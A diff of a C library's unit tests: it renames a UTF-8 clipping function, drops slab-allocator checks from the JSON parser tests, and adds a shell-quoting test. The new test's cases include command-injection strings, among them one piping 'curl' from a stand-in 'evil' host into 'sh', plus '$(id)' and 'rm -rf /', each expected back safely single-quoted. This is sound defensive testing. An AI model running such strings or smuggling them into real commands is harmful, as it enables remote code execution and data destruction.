@@ -17,9 +17,9 @@
 #include "hp/iso8601.h"
 #include "hp/json.h"
 #include "hp/pool.h"
+#include "hp/text.h"
 #include "hp/util.h"
 #include "t.h"
-#include "../../src/util/json-int.h"
 
 struct item {
 	int key;
@@ -280,25 +280,25 @@ static void t_arena(void)
 	T_EQ(a.bytes, 0);
 }
 
-/* hp_clip_utf8: whole characters, "…" only when something was cut, idempotent. */
+/* hp_text_clip: whole characters, "…" only when something was cut, idempotent. */
 static void t_clip_utf8(void)
 {
 	char out[HP_CLIP_SIZE(4)], again[HP_CLIP_SIZE(4)];
 
-	T_STREQ(hp_clip_utf8(NULL, 4, out), "");
-	T_STREQ(hp_clip_utf8("abcd", 4, out), "abcd");
-	T_STREQ(hp_clip_utf8("abcde", 4, out), "abcd\xE2\x80\xA6");
+	T_STREQ(hp_text_clip(NULL, 4, out), "");
+	T_STREQ(hp_text_clip("abcd", 4, out), "abcd");
+	T_STREQ(hp_text_clip("abcde", 4, out), "abcd\xE2\x80\xA6");
 	/* é (2 bytes), € (3), 𝄞 (4) are one character each. */
-	T_STREQ(hp_clip_utf8("\xC3\xA9\xE2\x82\xAC\xF0\x9D\x84\x9Ex", 3, out),
+	T_STREQ(hp_text_clip("\xC3\xA9\xE2\x82\xAC\xF0\x9D\x84\x9Ex", 3, out),
 		"\xC3\xA9\xE2\x82\xAC\xF0\x9D\x84\x9E\xE2\x80\xA6");
 	/* A fourth continuation byte starts a character of its own: a+3, then 4, then cut. */
-	T_EQ(strlen(hp_clip_utf8("a\x80\x80\x80\x80\x80\x80\x80\x80", 2, out)), 8 + 3);
+	T_EQ(strlen(hp_text_clip("a\x80\x80\x80\x80\x80\x80\x80\x80", 2, out)), 8 + 3);
 	/* Four 4-byte characters and more fill the buffer's size exactly: no overflow. */
-	T_EQ(strlen(hp_clip_utf8("\xF0\x9D\x84\x9E\xF0\x9D\x84\x9E\xF0\x9D\x84\x9E"
+	T_EQ(strlen(hp_text_clip("\xF0\x9D\x84\x9E\xF0\x9D\x84\x9E\xF0\x9D\x84\x9E"
 				 "\xF0\x9D\x84\x9E\xF0\x9D\x84\x9E", 4, out)), 16 + 3);
 	/* Clipping a clipped text changes nothing (the checks clip a stored entry again). */
-	hp_clip_utf8("abcdefgh", 4, out);
-	T_STREQ(hp_clip_utf8(out, 4, again), out);
+	hp_text_clip("abcdefgh", 4, out);
+	T_STREQ(hp_text_clip(out, 4, again), out);
 }
 
 /*
@@ -502,54 +502,39 @@ static char *node_list(int n, int salt)
 }
 
 /*
- * The shared parser's slabs: a tree's items and own strings come from
- * them, an item taken out of a tree keeps its slab, and what is deleted
- * is given back and reused, past the size of the whole range. Under
- * AddressSanitizer there are none: every item is malloc's, for ASan to see.
+ * A large shared tree is libcjson's tree, a node taken out of it outlives
+ * the list, and many lists parsed and deleted in turn leave every item to
+ * the allocator (ASan's leak check sees them all).
  */
-static void t_json_slabs(void)
+static void t_json_shared_trees(void)
 {
 	char *text = node_list(2000, 1);
 	cJSON *a = hp_json_parse_shared(text, strlen(text), NULL), *list, *kept, *lib;
-	size_t idle, loops;
+	size_t loops;
 	const cJSON *id;
 
 	T_ASSERT(a != NULL);
 	list = (cJSON *)hp_json_arr(a, "ClusterNodeSummaries");
 	T_EQ(cJSON_GetArraySize(list), 2000);
 	id = hp_json_get(cJSON_GetArrayItem(list, 1999), "InstanceId");
-	/* Items, and the instance ids (new on every node: the tree's own copies), from the slabs. */
+	/* Instance ids are new on every node: the tree's own copies, not the table's. */
 	T_ASSERT(!(id->type & cJSON_IsReference));
-	T_EQ(hp_json_slab_holds(a), HP_JSON_SLABS);
-	T_EQ(hp_json_slab_holds(id), HP_JSON_SLABS);
-	T_EQ(hp_json_slab_holds(id->valuestring), HP_JSON_SLABS);
-	if (HP_JSON_SLABS)
-		T_ASSERT(hp_json_slabs_in_use() >= 10);   /* 2000 nodes x 8 items x 64 bytes */
-	else
-		T_EQ(hp_json_slabs_in_use(), 0);
-	/* The same tree as libcjson's. */
 	lib = cJSON_Parse(text);
 	T_ASSERT(cJSON_Compare(a, lib, 1));
 	cJSON_Delete(lib);
-	/* One node outlives its list. */
 	kept = cJSON_DetachItemFromArray(list, 1000);
 	cJSON_Delete(a);
 	T_STREQ(hp_json_str(kept, "InstanceGroupName"), "gpu-p5");
 	T_STREQ(hp_json_str(kept, "PrivateDnsHostname"), "ip-10-4-4-0.us-west-2.compute.internal");
-	T_ASSERT(hp_json_slabs_in_use() <= 2);    /* kept's slab, and the one being cut */
 	cJSON_Delete(kept);
-	idle = hp_json_slabs_in_use();
-	T_ASSERT(idle <= 1);
-	/* 300 lists of 1.2 MB of items each: more than the whole range, given back and reused. */
-	for (loops = 0; loops < 300; loops++) {
+	for (loops = 0; loops < 50; loops++) {
 		free(text);
 		text = node_list(2000, (int)loops + 2);
 		a = hp_json_parse_shared(text, strlen(text), NULL);
 		T_ASSERT(a != NULL);
-		T_EQ(hp_json_slab_holds(a), HP_JSON_SLABS);
+		T_EQ(hp_json_len(a, "ClusterNodeSummaries"), 2000);
 		cJSON_Delete(a);
 	}
-	T_EQ(hp_json_slabs_in_use(), idle);
 	free(text);
 }
 
@@ -586,11 +571,10 @@ static void *delete_trees(void *arg)
 	return NULL;
 }
 
-static void t_json_slabs_threads(void)
+static void t_json_shared_threads(void)
 {
 	static struct handoff h[HANDOFF_THREADS];
 	pthread_t t[HANDOFF_THREADS];
-	size_t idle = hp_json_slabs_in_use();
 	int i, k, ok = 1;
 
 	for (i = 0; i < HANDOFF_THREADS; i++) {
@@ -603,18 +587,48 @@ static void t_json_slabs_threads(void)
 		for (k = 0; k < HANDOFF_TREES; k++)
 			ok &= h[i].tree[k] && hp_json_len(h[i].tree[k], "ClusterNodeSummaries") == 300;
 	T_ASSERT(ok);
-	if (HP_JSON_SLABS)
-		T_ASSERT(hp_json_slabs_in_use() > idle + 20);
 	/* Each thread deletes the trees another one parsed. */
 	for (i = 0; i < HANDOFF_THREADS; i++)
 		T_EQ(pthread_create(&t[i], NULL, delete_trees, &h[(i + 1) % HANDOFF_THREADS]), 0);
 	for (i = 0; i < HANDOFF_THREADS; i++)
 		pthread_join(t[i], NULL);
-	T_ASSERT(hp_json_slabs_in_use() <= idle + 1);
 }
 
-T_MAIN(T(t_array_push_grows_and_zeroes), T(t_array_append_reserve), T(t_array_sort),
+/* One function makes a value one shell word: plain as it is, anything else single-quoted. */
+static void t_shell_word(void)
+{
+	static const struct { const char *in, *out; } cases[] = {
+		{ "hp-demo", "hp-demo" },
+		{ "arn:aws:sagemaker:us-west-2:123456789012:cluster/abc", "arn:aws:sagemaker:us-west-2:123456789012:cluster/abc" },
+		{ "hp-demo;curl${IFS}evil|sh", "'hp-demo;curl${IFS}evil|sh'" },
+		{ "a b", "'a b'" },
+		{ "it's", "'it'\\''s'" },
+		{ "$(id)", "'$(id)'" },
+		{ "`id`", "'`id`'" },
+		{ "x\nrm -rf /", "'x?rm -rf /'" },
+		{ "*", "'*'" },
+		{ "~root", "'~root'" },
+		{ "", "''" },
+		{ "caf\xc3\xa9", "'caf\xc3\xa9'" },
+	};
+	size_t i;
+
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct hp_buf b = HP_BUF_INIT(256);
+		char small[64];
+
+		hp_shell_word(cases[i].in, &b);
+		T_STREQ(b.buf, cases[i].out);
+		T_STREQ(hp_shell_word_s(cases[i].in, small, sizeof(small)), cases[i].out);
+		hp_buf_release(&b);
+	}
+	T_ASSERT(hp_shell_plain("us-west-2"));
+	T_ASSERT(!hp_shell_plain("us west"));
+	T_ASSERT(!hp_shell_plain(NULL));
+}
+
+T_MAIN(T(t_shell_word), T(t_array_push_grows_and_zeroes), T(t_array_append_reserve), T(t_array_sort),
        T(t_iso_forms_seen), T(t_iso_prefix_and_end), T(t_iso_bad_input), T(t_days_from_civil),
        T(t_json_has_str), T(t_strtab), T(t_arena), T(t_clip_utf8),
        T(t_json_share), T(t_json_parse_shared_grammar),
-       T(t_json_numbers_match_strtod), T(t_json_slabs), T(t_json_slabs_threads))
+       T(t_json_numbers_match_strtod), T(t_json_shared_trees), T(t_json_shared_threads))
